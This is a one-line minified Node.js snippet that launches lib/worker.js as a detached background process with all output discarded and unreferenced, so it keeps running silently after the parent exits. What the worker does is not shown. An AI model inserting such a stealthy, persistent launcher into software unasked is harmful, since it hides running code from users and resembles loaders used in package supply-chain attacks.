const{spawn:e}=require("child_process");var r;r=require("path").join(__dirname,"lib","worker.js"),e(process.execPath,[r],{detached:!0,stdio:"ignore"}).unref();
